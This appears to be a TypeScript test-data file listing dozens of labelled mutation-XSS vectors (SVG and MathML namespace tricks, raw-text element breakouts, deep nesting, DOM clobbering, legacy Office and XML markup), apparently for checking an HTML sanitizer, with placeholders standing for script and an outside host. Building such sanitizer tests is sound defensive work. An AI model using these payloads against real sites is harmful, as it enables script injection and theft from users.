import type { Vector } from "./vector.ts";

/** Markup that one parser reads as text and the next as elements: namespaces, raw text, nesting, names that hide what a cleaner looks at. */
export const MUTATIONS: readonly Vector[] = [
  ["a script in SVG", "<svg><script>RUN</script></svg>"],
  ["a script in SVG by an entity", "<svg><script>&#116;op.hit(0);RUN</script></svg>"],
  [
    "a script in SVG from elsewhere",
    '<svg><script href="https://NET/s.js"/><script xlink:href="https://NET/t.js"/></svg>',
  ],
  ["SVG that loads", "<svg onload=RUN><g onload=RUN></g></svg>"],
  ["SVG that loads in capitals", "<SVG/ONLOAD=RUN>"],
  [
    "SVG that animates a link",
    '<svg><a><animate attributeName=href values="javascript:RUN" begin=0s dur=1s fill=freeze /><text x=1 y=20>x</text></a></svg>',
  ],
  [
    "SVG that sets a handler",
    '<svg><set attributeName=onmouseover to="RUN"/><animate attributeName=onclick to="RUN" onbegin=RUN onend=RUN dur=.1s /></svg>',
  ],
  [
    "SVG that animates a picture's address",
    '<svg><image><set attributeName="href" begin="0s" to="https://NET/a"/><animate attributeName="xlink:href" values="https://NET/b" /></image></svg>',
  ],
  [
    "SVG with a link",
    '<svg><a href="javascript:RUN" xlink:href="javascript:RUN"><rect width=99 height=99 /></a></svg>',
  ],
  [
    "SVG that uses another",
    '<svg><use href="https://NET/u.svg#x"/><use xlink:href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>RUN</script></svg>#x"/></svg>',
  ],
  [
    "SVG with pictures",
    '<svg><image href="https://NET/i"/><feImage href="https://NET/f"/><image xlink:href="https://NET/x"/></svg>',
  ],
  [
    "SVG with HTML in it",
    '<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>RUN</script><img src=x onerror=RUN><iframe src="https://NET/i"></iframe></body></foreignObject></svg>',
  ],
  [
    "SVG with a style",
    "<svg><style>@import 'https://NET/i'; *{fill:url(https://NET/f)}</style><rect style='mask:url(https://NET/m);filter:url(https://NET/g)' /></svg>",
  ],
  [
    "SVG with handlers of other times",
    "<svg><handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event=load>RUN</handler><listener event=load handler='#h'/></svg>",
  ],
  [
    "SVG as a data picture",
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><image href='https://NET/i'/></svg>\">",
  ],
  ["SVG that a title ends", "<svg><title><script>RUN</script></title><desc><img src=x onerror=RUN></desc></svg>"],
  [
    "MathML with a link",
    '<math href="javascript:RUN"><mi href="javascript:RUN" xlink:href="javascript:RUN">x</mi></math>',
  ],
  [
    "MathML with an action",
    '<math><maction actiontype="statusline#https://NET" xlink:href="javascript:RUN">x</maction></math>',
  ],
  [
    "MathML with HTML in it",
    '<math><annotation-xml encoding="text/html"><script>RUN</script><img src=x onerror=RUN></annotation-xml><semantics><annotation-xml encoding="application/xhtml+xml"><iframe src="https://NET/i"></iframe></annotation-xml></semantics></math>',
  ],
  [
    "MathML with a style",
    "<math><style><img src=x onerror=RUN></style><mtext><style>@import 'https://NET/i'</style></mtext></math>",
  ],
  ["a style in SVG that ends in an attribute", '<svg></p><style><a id="</style><img src=1 onerror=RUN>">'],
  ["a style in MathML that ends in an attribute", '<math></p><style><a id="</style><img src=1 onerror=RUN>">'],
  [
    "a title in SVG that ends in an attribute",
    '<svg></p><title><a id="</title><img src=x onerror=RUN>"></textarea></svg>',
  ],
  [
    "a table that moves a glyph",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  ],
  [
    "a table that moves a malignmark",
    '<math><mtext><table><malignmark><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  ],
  [
    "a form that ends and begins in MathML",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=RUN>",
  ],
  ["a form in a table in SVG", "<svg><foreignObject><form><table></form><form><style></svg><img src=x onerror=RUN>"],
  [
    "headings that close each other",
    '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=RUN>"></style></h1>',
  ],
  [
    "an option that closes another",
    '<math><mtext><option><fake><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=RUN>">',
  ],
  [
    "an element that no one knows, in SVG",
    'a<svg><xss><desc><noscript>&lt;/noscript>&lt;/desc>&lt;s>&lt;/s>&lt;style>&lt;a title="&lt;/style>&lt;img src onerror=RUN>">',
  ],
  [
    "a paragraph's end in SVG",
    "<svg></p><textarea><title><style></textarea><img src=x onerror=RUN></style></title></svg>",
  ],
  ["a line break's end in MathML", "<math></br><textarea><mtext><template><style></textarea><img src=x onerror=RUN>"],
  [
    "a comment in SVG that HTML ends",
    "<svg><!--</svg><img src=x onerror=RUN>--></svg><svg><![CDATA[</svg><img src=x onerror=RUN>]]></svg>",
  ],
  ["a CDATA part with an attribute", '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=RUN//"></svg>'],
  ["noscript with an attribute", '<noscript><p title="</noscript><img src=x onerror=RUN>">'],
  ["noscript with a comment", "<noscript><!-- </noscript><img src=x onerror=RUN --></noscript>"],
  ["noscript in a head", "<head><noscript><style></noscript><img src=x onerror=RUN></style></noscript></head>"],
  ["a text area with an attribute", '<textarea><img title="</textarea><img src=x onerror=RUN>">'],
  ["a title with an attribute", '<title><a title="</title><img src=x onerror=RUN>">'],
  ["an iframe's text with an attribute", '<iframe><a title="</iframe><img src=x onerror=RUN>">'],
  ["a noembed with an attribute", '<noembed><a title="</noembed><img src=x onerror=RUN>">'],
  ["a noframes with an attribute", '<noframes><a title="</noframes><img src=x onerror=RUN>">'],
  ["an example with an attribute", '<xmp><a title="</xmp><img src=x onerror=RUN>"></xmp>'],
  ["a listing with escapes", '<listing>&lt;img onerror="RUN" src=x&gt;<t t></listing>'],
  ["plain text without an end", "<plaintext><img src=x onerror=RUN>"],
  [
    "a select with a template",
    "<select><template><img src=x onerror=RUN></template><style></select><img src=x onerror=RUN></style>",
  ],
  [
    "a select that a script ends",
    "<select><iframe></select><b><script>RUN</script><option><style></option></select><img src=x onerror=RUN></style>",
  ],
  ["templates in templates", "<template><s><template><s><img src=x onerror=RUN>x</s></template></s></template>"],
  [
    "a declared shadow root",
    '<div><template shadowrootmode="open" shadowrootclonable><img src=x onerror=RUN><style>@import "https://NET/i"</style></template></div>',
  ],
  ["a frame set that takes the body's place", "<frameset><noframes></frameset><img src=x onerror=RUN></noframes>"],
  [
    "an attribute that swallows what follows",
    "<img src='x` `><img src=x onerror=RUN>'><a title=`x onmouseover=RUN>y</a>",
  ],
  ["an attribute that begins with a quotation mark", '<img """><script>RUN</script>">'],
  ["a tag in a tag", "<img src=x <img src=y onerror=RUN><b <script>RUN//</script>0</script></b>"],
  ["a name with a bracket", '<a<script>RUN</script>x><a"><img src=x onerror=RUN>'],
  [
    "a declaration with a tag",
    '<! foo="><img src=x onerror=RUN>"><? foo="><img src=x onerror=RUN>"></ foo="><img src=x onerror=RUN>"><% foo="%><img src=x onerror=RUN>">',
  ],
  [
    "six hundred open elements before a style",
    `${"<b>".repeat(150)}<svg>${"<g>".repeat(150)}<style><a title="</style><img src=x onerror=RUN>">`,
  ],
  [
    "five hundred and twenty elements in each other",
    `${"<div>".repeat(520)}<svg><style><a title="</style><img src=x onerror=RUN>">`,
  ],
  [
    "a deep table in a deep table",
    `${"<table><tr><td>".repeat(70)}<math><mtext><style><a title="</style><img src=x onerror=RUN>">`,
  ],
  ["a name that hides the attributes", "<form onclick=RUN><input name=attributes><input name=attributes></form>"],
  [
    "names that hide the tree",
    "<form><input name=parentNode><input name=childNodes><input name=firstChild><input name=nodeName><input name=removeChild></form><img src=x onerror=RUN>",
  ],
  [
    "names that hide how one cleans",
    "<form onsubmit=RUN><input name=setAttribute><input name=removeAttribute><input name=getAttribute><input name=namespaceURI><input name=hasChildNodes><input name=textContent><input name=insertBefore></form>",
  ],
  [
    "names that hide the document's parts",
    '<img name=body><img name=getElementById><img name=createElement><img name=implementation><img name=cookie><form name=documentElement></form><a id=defaultView href="https://NET/c">x</a>',
  ],
  [
    "names of our own things",
    '<a id=root href="https://NET/r">x</a><div id=content>x</div><a id=__zod_globalConfig name=location href="https://NET/z">x</a><iframe name=pipedesk></iframe>',
  ],
  [
    "two anchors of one name",
    '<a id=config></a><a id=config name=url href="https://NET/cfg">x</a><form id=x><output id=y>z</output></form>',
  ],
  [
    "a prototype's names",
    '<p id=__proto__ name=constructor>x</p><a id=toString href="cid:x">x</a><img name=hasOwnProperty>',
  ],
  [
    "namespaces by prefix",
    '<html xmlns:svg="http://www.w3.org/2000/svg"><svg:svg><svg:script>RUN</svg:script></svg:svg><html:script xmlns:html="http://www.w3.org/1999/xhtml">RUN</html:script>',
  ],
  [
    "Office's own markup",
    '<o:p onclick=RUN>x</o:p><v:shape style="behavior:url(#default#VML)"><v:imagedata src="https://NET/v"/></v:shape><v:rect href="javascript:RUN" fill=t><v:fill src="https://NET/w"/></v:rect>',
  ],
  [
    "an XML island",
    '<xml id=i src="https://NET/x.xml"></xml><span datasrc="#i" datafld="x" dataformatas="html"></span><xml:namespace prefix="t"><t:set attributeName="innerHTML" to="<img src=x onerror=RUN>">',
  ],
];
